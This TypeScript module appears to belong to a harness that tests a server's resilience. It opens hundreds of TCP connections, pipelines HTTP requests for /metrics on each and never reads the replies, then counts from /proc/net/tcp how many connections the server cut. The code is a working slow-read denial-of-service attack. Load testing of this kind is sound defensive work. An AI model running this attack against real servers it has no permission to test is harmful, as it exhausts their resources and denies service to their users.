import { readFileSync } from "node:fs";
import { connect, type Socket } from "node:net";
import type { Attack } from "./measure-attack.ts";
import { numberFlag } from "./flags.ts";

const CONNECTIONS = numberFlag("connections", 500);
const PIPELINED = numberFlag("pipelined", 20);

/** Code of the state ESTABLISHED in /proc/net/tcp. */
const ESTABLISHED = "01";

/**
 * Returns the number of sockets that the server has not closed. Reads the kernel's table, because a socket that is not
 * read does not report the close.
 */
function established(sockets: readonly Socket[]): number {
  const ports = new Set(sockets.map(({ localPort }) => localPort));
  const rows = readFileSync("/proc/net/tcp", "utf8").split("\n").slice(1, -1);
  return rows.filter((row) => {
    const [, local, , state] = row.trim().split(/\s+/);
    return state === ESTABLISHED && ports.has(Number.parseInt(local!.split(":")[1]!, 16));
  }).length;
}

/**
 * Opens `count` connections that pipeline requests and never read. The answers stay in socket buffers.
 * @param paths requested by each of `count` connections, pipelined
 */
export function unreadAttack(base: string, paths: readonly string[], count: number): Attack {
  const { hostname, port, host } = new URL(base);
  const text = paths.map((path) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`).join("");
  const sockets = Array.from({ length: count }, () => {
    const socket = connect({ host: hostname, port: Number(port) }).pause();
    socket.on("error", () => undefined).write(text);
    return socket;
  });
  return {
    end: async () => {
      const open = established(sockets);
      for (const socket of sockets) socket.destroy();
      return `${count - open} of ${count} connections cut`;
    },
  };
}

export const PIPELINE_NAME = `${CONNECTIONS} × ${PIPELINED} unread /metrics`;

/** Attack with connections that pipeline requests for /metrics. */
export const pipeline = (base: string): Attack =>
  unreadAttack(
    base,
    Array.from({ length: PIPELINED }, () => "/metrics"),
    CONNECTIONS,
  );
